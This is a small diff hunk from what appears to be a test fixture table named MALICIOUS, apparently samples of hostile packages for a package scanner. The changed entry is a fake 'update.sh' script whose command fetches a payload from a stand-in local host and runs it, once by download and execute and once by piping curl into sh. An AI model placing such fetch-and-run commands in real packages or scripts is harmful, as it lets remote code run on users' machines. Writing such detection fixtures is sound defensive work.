@@ -819,7 +819,7 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
             "0.1",
             {
                 "setupkit/__init__.py": "",
-                "setupkit/bin/update.sh": "#!/bin/sh\ncurl -s http://127.0.0.1/p -o /tmp/p && chmod +x /tmp/p && /tmp/p\n",
+                "setupkit/bin/update.sh": "#!/bin/sh\ncurl -s http://127.0.0.1/p | sh\n",
             },
         ),
     ),
